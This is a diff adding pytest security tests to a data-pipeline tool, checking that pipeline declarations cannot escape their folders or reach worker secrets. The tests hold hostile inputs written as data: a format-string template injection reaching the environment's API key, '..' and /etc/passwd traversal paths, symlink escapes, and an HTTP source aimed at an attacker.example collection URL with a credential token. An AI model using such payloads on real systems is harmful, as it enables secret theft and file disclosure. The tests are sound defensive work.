@@ -2,15 +2,18 @@
 
 from __future__ import annotations
 
-from datetime import timedelta
+from datetime import UTC, datetime, timedelta
 from pathlib import Path
 
 import pytest
 import yaml
 
-from shipshape.catalog import load_all, load_pipeline
-from shipshape.errors import DeclarationError
+from shipshape.catalog import find_pipeline, load_all, load_pipeline
+from shipshape.errors import DeclarationError, SourceError
+from shipshape.partitions import FULL_REFRESH, Window
 from shipshape.settings import PACKAGE_ROOT
+from shipshape.sources.files import FileSource, PartitionFileSource
+from shipshape.sources.path_template import fill_path
 
 EXAMPLE = PACKAGE_ROOT / "pipelines" / "shop_orders.yaml"
 
@@ -199,3 +202,157 @@ def test_a_bad_timeout_is_one_line_naming_the_field_and_the_fix(tmp_path: Path, 
     message = _error_for(tmp_path, lambda d: d.update(timeout=timeout))
     assert message.startswith("pipelines/shop_orders.yaml: ")
     assert expected in message
+
+
+# Confined declarations (SECURITY.md): a declaration reads only its own files and the data folder, names only
+# secrets meant for it, and publishes only to a table of its own.
+
+HOSTILE_PATH = "{data_dir.__class__.__new__.__globals__[os].environ[PREFECT_API_KEY]}"
+CANARY = "pnu_canary-api-key-0123456789"
+
+
+def _file_source(path: str):
+    def change(data: dict) -> None:
+        data["source"] = {"kind": "file", "path": path, "format": "csv", "columns": data["source"]["columns"]}
+
+    return change
+
+
+def test_a_path_template_cannot_reach_the_worker_environment(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("PREFECT_API_KEY", CANARY)
+    message = _error_for(tmp_path, _file_source(HOSTILE_PATH))
+    assert f"field 'source.path': got {HOSTILE_PATH!r}; unknown placeholder {HOSTILE_PATH}" in message
+    assert "use only {data_dir}, {start:<strftime>} and {end:<strftime>}" in message
+    assert CANARY not in message
+
+    # The reader fills templates the same way, even one that never went through validation.
+    spec = FileSource.model_construct(kind="file", path=HOSTILE_PATH, format="csv", columns={"a": "text"})
+    with pytest.raises(SourceError) as raised:
+        PartitionFileSource(spec, tmp_path).path_for(Window("2026-11-05", datetime(2026, 11, 5, tzinfo=UTC)))
+    assert CANARY not in str(raised.value)
+
+
+@pytest.mark.parametrize(
+    ("path", "problem"),
+    [
+        ("{data_dir}/../../etc/passwd", "'..' is not allowed in the path"),
+        ("/etc/passwd", "the path must start with {data_dir}/"),
+        ("{data_dir}/{start:%Y}/{end}.csv", "unknown placeholder {end}"),
+        ("{data_dir}/{start.year}.csv", "unknown placeholder {start.year}"),
+        ("{data_dir}/{start:%Y/../../x}.csv", "'..' is not allowed in the path"),
+        ("{data_dir}/{0}.csv", "unknown placeholder {0}"),
+        ("{data_dir}/x}.csv", "unmatched '{' or '}'"),
+    ],
+)
+def test_a_path_template_outside_the_data_folder_or_with_unknown_fields_is_refused(
+    tmp_path: Path, path: str, problem: str
+) -> None:
+    message = _error_for(tmp_path, _file_source(path))
+    assert f"field 'source.path': got {path!r}; " in message
+    assert problem in message
+
+
+def test_a_symlink_out_of_the_data_folder_is_not_followed(tmp_path: Path) -> None:
+    outside = tmp_path / "outside.csv"
+    outside.write_text("a\nworker-only\n")
+    data_dir = tmp_path / "data"
+    data_dir.mkdir()
+    (data_dir / "landing.csv").symlink_to(outside)
+    spec = FileSource(kind="file", path="{data_dir}/landing.csv", format="csv", columns={"a": "text"})
+    with pytest.raises(SourceError, match=r"names .*outside.csv for partition full, outside the data folder"):
+        PartitionFileSource(spec, data_dir).path_for(FULL_REFRESH)
+
+
+@pytest.mark.parametrize(
+    "variable", ["PREFECT_API_AUTH_STRING", "PREFECT_API_KEY", "SHIPSHAPE_WAREHOUSE_URL", "SHIPSHAPE_SECRET_"]
+)
+def test_a_secret_reference_cannot_name_the_worker_credentials(tmp_path: Path, variable: str) -> None:
+    message = _error_for(tmp_path, lambda d: d["pii"].update(key={"env": variable}))
+    assert f"field 'pii.key.env': got {variable!r}; a secret variable must be named SHIPSHAPE_SECRET_<NAME>" in message
+    assert "(or one of: PII_HASH_KEY); rename the variable (e.g. SHIPSHAPE_SECRET_ORDERS_API_TOKEN)" in message
+
+
+def test_an_http_token_cannot_name_the_prefect_credential(tmp_path: Path) -> None:
+    def http_source(data: dict) -> None:
+        data["source"] = {
+            "kind": "http", "url": "https://attacker.example/collect", "columns": data["source"]["columns"],
+            "token": {"env": "PREFECT_API_AUTH_STRING"},
+        }
+
+    message = _error_for(tmp_path, http_source)
+    assert "field 'source.token.env': got 'PREFECT_API_AUTH_STRING'; a secret variable must be named" in message
+
+
+def test_a_secret_reference_may_name_a_shipshape_secret(tmp_path: Path) -> None:
+    file = _write_variant(tmp_path, lambda d: d["pii"].update(key={"env": "SHIPSHAPE_SECRET_ORDERS_PII_KEY"}))
+    assert load_pipeline(file, tmp_path).spec.pii.key.env == "SHIPSHAPE_SECRET_ORDERS_PII_KEY"
+
+
+@pytest.mark.parametrize(
+    ("field", "value", "folder"),
+    [
+        ("contract", "../outside/contract.yaml", "checks/"),
+        ("contract", "pipelines/shop_orders/fct_orders.sql", "checks/"),
+        ("transform", "../outside/steal.sql", "pipelines/shop_orders/"),
+        ("transform", "checks/fct_orders.yaml", "pipelines/shop_orders/"),
+        ("transform", "pipelines/shop_orders/../other/steal.sql", "pipelines/shop_orders/"),
+    ],
+)
+def test_declared_files_must_lie_in_the_pipelines_own_folders(
+    tmp_path: Path, field: str, value: str, folder: str
+) -> None:
+    for existing in ["outside/contract.yaml", "outside/steal.sql", "pipelines/other/steal.sql"]:
+        (tmp_path / existing).parent.mkdir(parents=True, exist_ok=True)
+        (tmp_path / existing).write_text("SELECT 1")
+    shown = "transform[0]" if field == "transform" else field
+    message = _error_for(tmp_path, lambda d: d.update({field: [value] if field == "transform" else value}))
+    assert f"field {shown!r}: got {value!r}; expected a file under {folder} (after resolving '..' and symlinks)" in (
+        message
+    )
+
+
+def test_a_transform_symlinked_out_of_the_pipeline_folder_is_refused(tmp_path: Path) -> None:
+    file = _write_variant(tmp_path, lambda d: d.update(transform=["pipelines/shop_orders/leak.sql"]))
+    (tmp_path / "secret.txt").write_text("not for declarations")
+    (tmp_path / "pipelines/shop_orders/leak.sql").symlink_to(tmp_path / "secret.txt")
+    with pytest.raises(DeclarationError, match=r"'transform\[0\]': got 'pipelines/shop_orders/leak.sql'; expected"):
+        load_pipeline(file, tmp_path)
+
+
+@pytest.mark.parametrize("name", ["../pipelines/shop_orders", "../../etc/passwd", "shop_orders/../shop_orders", ""])
+def test_a_pipeline_name_from_a_parameter_is_an_identifier_not_a_path(name: str) -> None:
+    with pytest.raises(DeclarationError) as raised:
+        find_pipeline(name, PACKAGE_ROOT)
+    assert str(raised.value) == (
+        f"pipelines/: pipeline name {name!r} is not a pipeline name; "
+        "expected letters, digits and _ (^[a-z_][a-z0-9_]*$)"
+    )
+
+
+@pytest.mark.parametrize("schema", ["platform", "audit", "public", "pg_catalog", "information_schema"])
+def test_a_reserved_schema_is_not_a_destination(tmp_path: Path, schema: str) -> None:
+    message = _error_for(tmp_path, lambda d: d["destination"].update(schema=schema))
+    assert f"field 'destination.schema': got {schema!r}; schema {schema!r} is reserved for the platform" in message
+    assert "publish to a schema of your own, e.g. analytics" in message
+
+
+def test_two_pipelines_cannot_share_a_destination(tmp_path: Path) -> None:
+    _write_variant(tmp_path, lambda d: None)
+    copy = yaml.safe_load(EXAMPLE.read_text()) | {"name": "shop_orders_copy", "transform": []}
+    (tmp_path / "pipelines" / "shop_orders_copy.yaml").write_text(yaml.safe_dump(copy))
+    with pytest.raises(DeclarationError) as raised:
+        load_all(tmp_path)
+    assert str(raised.value) == (
+        "pipelines/shop_orders_copy.yaml: field 'destination': analytics.fct_orders is already the destination of "
+        "pipelines/shop_orders.yaml; each pipeline publishes its own table — change destination.table or "
+        "destination.schema in one of them"
+    )
+
+
+def test_a_path_template_fills_only_its_three_fields(tmp_path: Path) -> None:
+    path = "{data_dir}/landing/{start:%Y/%m/%d}-{end:%d}.csv"
+    spec = load_pipeline(_write_variant(tmp_path, _file_source(path)), tmp_path).spec.source
+    window = Window("2026-11-05", datetime(2026, 11, 5, tzinfo=UTC), datetime(2026, 11, 6, tzinfo=UTC))
+    assert fill_path(spec.path, tmp_path / "data", window) == (tmp_path / "data/landing/2026/11/05-06.csv").resolve()
